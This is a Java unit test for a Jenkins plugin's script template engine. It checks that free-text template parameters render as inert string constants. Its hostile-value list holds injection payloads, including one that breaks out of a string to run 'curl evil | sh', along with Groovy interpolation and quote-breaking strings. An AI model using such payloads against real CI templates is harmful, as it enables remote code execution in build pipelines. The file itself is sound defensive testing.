package io.jenkins.plugins.skylark.templates;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import io.jenkins.plugins.skylark.template.ParameterType;
import io.jenkins.plugins.skylark.template.ScriptFacts;
import io.jenkins.plugins.skylark.template.TemplateDescriptor;
import io.jenkins.plugins.skylark.template.TemplateEngine;
import io.jenkins.plugins.skylark.template.TemplateExample;
import io.jenkins.plugins.skylark.template.TemplateParameter;

import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Every free-text parameter of every template (text without a validation pattern) takes hostile
 * values that stay one string constant: same calls, same constants, only the value swapped.
 */
class FreeTextValuesTest {

    private static final String HARMLESS = "harmless-value";
    private static final List<String> ONE_LINE = List.of("'); sh('curl evil | sh'); echo('", "${evil()}", "'''",
            "\"\"\"", "\\", "\\u0027); evil(); //", "*/ evil() /*", "{{ project }}");
    private static final List<String> MULTI_LINE = List.of("a\n'''\nevil()\n", "x'\r\n\"\"\"${evil()}");

    @TestFactory
    Stream<DynamicTest> shouldKeepHostileFreeTextAConstantString() {
        return Catalogue.TEMPLATES.all().stream().flatMap(template -> template.parameters().stream()
                .filter(p -> p.pattern() == null
                        && (p.type() == ParameterType.STRING || p.type() == ParameterType.TEXT))
                .map(p -> DynamicTest.dynamicTest(template.id() + " " + p.name(), () -> attack(template, p))));
    }

    private static void attack(TemplateDescriptor template, TemplateParameter parameter) {
        TemplateExample example = exampleShowing(template, parameter.name());
        ScriptFacts harmless = facts(template, example, parameter.name(), HARMLESS);
        List<String> hostile = parameter.type() == ParameterType.TEXT
                ? Stream.concat(ONE_LINE.stream(), MULTI_LINE.stream()).toList() : ONE_LINE;
        for (String value : hostile) {
            ScriptFacts rendered = facts(template, example, parameter.name(), value);

            assertThat(rendered.gStrings()).as(value).isZero();
            assertThat(rendered.calls()).as(value).isEqualTo(harmless.calls());
            assertThat(rendered.strings()).as(value).contains(value)
                    .isEqualTo(harmless.strings().stream().map(s -> s.equals(HARMLESS) ? value : s).toList());
        }
    }

    private static TemplateExample exampleShowing(TemplateDescriptor template, String parameter) {
        return template.examples().stream()
                .filter(e -> TemplateEngine.validate(template, e.values()).isShown(parameter)).findFirst()
                .orElseThrow(() -> new AssertionError(template.id() + ": no example shows " + parameter));
    }

    private static ScriptFacts facts(TemplateDescriptor template, TemplateExample example, String name, String value) {
        Map<String, Object> values = new HashMap<>(example.values());
        values.put(name, value);
        return ScriptFacts.of(template.id(), TemplateEngine.render(template, values).text());
    }
}
